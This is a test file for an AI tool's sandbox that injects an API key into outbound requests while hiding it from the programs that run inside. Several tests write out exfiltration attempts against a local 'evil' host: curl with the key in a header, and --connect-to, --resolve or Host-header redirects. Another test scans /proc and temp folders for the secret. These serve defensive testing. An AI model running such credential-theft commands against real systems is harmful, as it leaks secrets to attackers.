import { describe, expect, test } from "bun:test";
import { join } from "node:path";
import { credentialFor, KEY, type KeyedHost, openKeyedHost } from "../support/keyed-host.ts";
import { requireProgram } from "../support/require-program.ts";
import { openSandboxBench, type SandboxBench, type SandboxBenchOptions } from "../support/sandbox-bench.ts";
import { temporaryDirectory } from "../support/temporary-directory.ts";

const PLACEHOLDER = "mdx-ai-credential-EXAMPLE_KEY";

/** A sandbox whose programs may use the key for a host. */
const openBench = (host: KeyedHost, more: SandboxBenchOptions = {}): SandboxBench =>
  openSandboxBench({
    network: [`localhost:${host.port}`],
    credentials: [credentialFor(`localhost:${host.port}`)],
    ...more,
    environment: { ...host.environment, ...more.environment },
  });

const keysOf = (host: KeyedHost): readonly (string | undefined)[] =>
  host.requests.map(({ headers }) => headers["authorization"]);

/** What a key is in no form. */
function expectNoKey(text: string): void {
  for (const form of [KEY, JSON.stringify(KEY).slice(1, -1), encodeURIComponent(KEY), btoa(KEY)])
    expect(text).not.toContain(form);
}

/** A command that requests a URL and prints the answer, by its program. */
const PROGRAMS: Readonly<Record<string, (url: string) => string>> = {
  curl: (url) => `curl -sS ${url}`,
  "curl --noproxy": (url) => `curl -sS --noproxy '*' ${url}`,
  python3: (url) => `python3 -c 'import urllib.request; print(urllib.request.urlopen("${url}").read().decode())'`,
  node: (url) => `node -e 'require("https").get("${url}", (answer) => answer.pipe(process.stdout))'`,
  openssl: (url) =>
    `printf 'GET / HTTP/1.1\\r\\n\\r\\n' | openssl s_client -quiet -verify_return_error -connect ${new URL(url).host} 2>&1`,
  git: (url) => `git ls-remote ${url}`,
};

describe.skipIf(requireProgram("bwrap"))("a program in the sandbox", () => {
  for (const [program, command] of Object.entries(PROGRAMS)) {
    test.skipIf(requireProgram(program.split(" ")[0] ?? ""))(`uses a key that it never sees: ${program}`, async () => {
      using host = openKeyedHost();
      await using bench = openBench(host);
      const { text } = await bench.bash(command(`https://localhost:${host.port}/`));
      expect(keysOf(host)[0]).toBe(`Bearer ${KEY}`);
      expectNoKey(text);
    });
  }

  test.each([["all"], ["localhost"]])(
    "uses it if it reaches %s, and the variable holds a placeholder",
    async (reached) => {
      using host = openKeyedHost();
      const network = reached === "all" ? "all" : [`localhost:${host.port}`];
      await using bench = openBench(host, { network });
      const { text } = await bench.bash(
        `echo $EXAMPLE_KEY; curl -sS -H "X-Own: $EXAMPLE_KEY" https://localhost:${host.port}/`,
      );
      expect(text).toStartWith(`${PLACEHOLDER}\n`);
      expect(text).toContain(`"x-own":"${PLACEHOLDER}"`);
      expect(keysOf(host)).toStrictEqual([`Bearer ${KEY}`]);
      expectNoKey(text);
    },
  );

  test("uses it by the proxy of a sandbox that reaches all hosts", async () => {
    using host = openKeyedHost();
    await using bench = openBench(host, { network: "all" });
    const url = `https://localhost:${host.port}/`;
    const commands = ["curl", "python3", "git"].map((program) => PROGRAMS[program]?.(url));
    expectNoKey((await bench.bash(commands.join("; "))).text);
    // Git asks twice.
    const keys = [...commands, "git"].map(() => `Bearer ${KEY}`);
    expect(keysOf(host)).toStrictEqual(keys);
    // Others know no password, and programs that use no proxy reach the host as usual.
    const port = `$(echo $HTTPS_PROXY | sed 's/.*://')`;
    const { text } = await bench.bash(
      `curl -sS -x http://127.0.0.1:${port} ${url} -o /dev/null; curl -sSk --noproxy '*' ${url}`,
    );
    expect(text).toContain("407");
    expect(keysOf(host).slice(keys.length)).toStrictEqual([undefined]);
  });

  test("uses it in a tool of agent.mdx, whether that names hosts or not", async () => {
    using host = openKeyedHost();
    await using bench = openBench(host);
    const body = `return process.env.EXAMPLE_KEY + (await (await fetch("https://localhost:${host.port}/")).text());`;
    for (const network of [undefined, [`localhost:${host.port}`]]) {
      const { text } = await bench.tool(body, network && { network });
      expect(text).toStartWith(`${PLACEHOLDER}{`);
      expectNoKey(text);
    }
    expect(keysOf(host)).toStrictEqual([`Bearer ${KEY}`, `Bearer ${KEY}`]);
  });

  test("finds it in no variable, file, process or memory that it can read", async () => {
    using host = openKeyedHost();
    await using bench = openBench(host);
    const search = [
      "import os, sys",
      `key = bytes.fromhex("${Buffer.from(KEY).toString("hex")}")`,
      "found = []",
      "for folder in ['/run', '/tmp', '/var/tmp', '/dev/shm', os.environ['HOME'], os.getcwd(), '/proc']:",
      "  for path, _, names in os.walk(folder, onerror=lambda e: None):",
      "    for name in names:",
      "      file = os.path.join(path, name)",
      "      if folder == '/proc' and name not in ('environ', 'cmdline', 'maps'): continue",
      "      try:",
      "        if key in open(file, 'rb').read(4_000_000): found.append(file)",
      "      except OSError: pass",
      "print('found', found, key in b''.join(os.environb.values()))",
    ].join("\n");
    const { text } = await bench.bash(
      `curl -sS https://localhost:${host.port}/ >answer; python3 - <<'E'\n${search}\nE`,
      60,
    );
    expect(keysOf(host)).toStrictEqual([`Bearer ${KEY}`]);
    expect(text).toBe("found [] False\n");
  });

  test("cannot send it to a host of its own: by name, address, header, or a proxy of another sandbox", async () => {
    using host = openKeyedHost();
    using evil = openKeyedHost();
    await using bench = openBench(host, { network: [`localhost:${host.port}`, `localhost:${evil.port}`] });
    const [own, other] = [`https://localhost:${host.port}`, `https://localhost:${evil.port}`];
    const commands = [
      `curl -sSk ${other}/ -H "Authorization: Bearer $EXAMPLE_KEY"`,
      `curl -sSk --connect-to localhost:${host.port}:localhost:${evil.port} ${own}/`,
      `curl -sSk --resolve localhost:${host.port}:127.0.0.1 ${other}/ -H 'Host: localhost:${host.port}'`,
      `curl -sS ${own}/ -H 'Host: localhost:${evil.port}'`,
    ];
    const { text } = await bench.bash(commands.join("; echo; "));
    expectNoKey(text);
    for (const { headers } of evil.requests) expectNoKey(JSON.stringify(headers));
    expect(text).toContain(`the key for localhost:${host.port} is not sent to localhost:${evil.port}`);
    expect(keysOf(host)).toStrictEqual([]);
  });

  test("trusts the certificates of the run, and no other program does", async () => {
    using host = openKeyedHost();
    await using bench = openBench(host);
    // The system's own file holds them, too, for programs that read no variable.
    const { text } = await bench.bash(
      `env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS https://localhost:${host.port}/; echo; cat /run/mdx-ai-certificates.pem | tail -n 1`,
    );
    expect(text).toContain('"authorization":"Bearer ***');
    expect(text).toContain("-----END CERTIFICATE-----");
    const outside = Bun.spawn(["curl", "-sS", `https://localhost:${host.port}/`], { env: {}, stderr: "ignore" });
    expect(await outside.exited).toBe(60);
  });

  test("that does not accept the certificate is told so, and what to do", async () => {
    using host = openKeyedHost();
    // As a program pins it that knows the host.
    await using bench = openBench(host, { files: { "pinned.pem": host.authority.certificate } });
    const said = [
      await bench.bash(`curl -sS --cacert pinned.pem https://localhost:${host.port}/`),
      await bench.tool(
        `return await (await fetch("https://localhost:${host.port}/", { tls: { ca: await Bun.file("pinned.pem").text() } })).text();`,
      ),
    ];
    for (const { text } of said) {
      expect(text).toContain("[the sandbox sent no key: a program did not accept the certificate");
      expect(text).toContain("let it trust the file that SSL_CERT_FILE names");
    }
    expect(host.requests).toStrictEqual([]);
  });

  test("is told why a key is missing", async () => {
    using host = openKeyedHost();
    const read = async (): Promise<never> => {
      throw new Error("the variable EXAMPLE_KEY is not set");
    };
    await using bench = openBench(host, { credentials: [credentialFor(`localhost:${host.port}`, { read })] });
    const problem = `the key for localhost:${host.port} is missing: the variable EXAMPLE_KEY is not set`;
    expect((await bench.bash(`curl -sS https://localhost:${host.port}/`)).text).toBe(
      `mdx-ai: ${problem}\n[the sandbox sent no key: ${problem}]`,
    );
  });

  test("clones a repository that only the key opens, and pushes nothing of it into the work tree", async () => {
    using folder = temporaryDirectory();
    const bare = join(folder.path, "repository.git");
    const git = (...args: readonly string[]): void => {
      const { exitCode } = Bun.spawnSync(["git", "-c", "user.name=x", "-c", "user.email=x@example.com", ...args], {
        cwd: folder.path,
      });
      expect(exitCode).toBe(0);
    };
    git("init", "-q", "work");
    git("-C", "work", "commit", "-q", "--allow-empty", "-m", "first");
    git("clone", "-q", "--bare", "work", bare);
    git("-C", bare, "update-server-info");
    const value = `Basic ${btoa(`x-access-token:${KEY}`)}`;
    using host = openKeyedHost(({ url, headers }) => {
      if (headers["authorization"] !== value) return new Response("no", { status: 401 });
      return new Response(Bun.file(join(folder.path, new URL(url).pathname)));
    });
    const read = async () => ({ key: KEY, value });
    await using bench = openBench(host, { credentials: [credentialFor(`localhost:${host.port}`, { read })] });
    const { text } = await bench.bash(
      `cd /tmp && git clone -q https://localhost:${host.port}/repository.git copy && git -C copy log --format=%s && cat copy/.git/config`,
    );
    expect(text).toStartWith("first\n");
    expectNoKey(text);
  });
});

describe("without a sandbox", () => {
  test("a tool or a command that names the key fails with what to do, and others run", async () => {
    using host = openKeyedHost();
    await using bench = openBench(host, { mode: "off", environment: {} });
    const problem = `the key for localhost:${host.port} (EXAMPLE_KEY) is used in the sandbox only: run it there`;
    expect((await bench.tool("return process.env.EXAMPLE_KEY;")).text).toContain(problem);
    expect((await bench.tool("return 'fine';")).text).toBe("fine");
    const { text } = await bench.bash("echo <$EXAMPLE_KEY>; echo $EXAMPLE_KEY");
    expect(text).toContain(`[${problem}`);
    expect((await bench.bash("echo fine")).text).toBe("fine\n");
  });
});
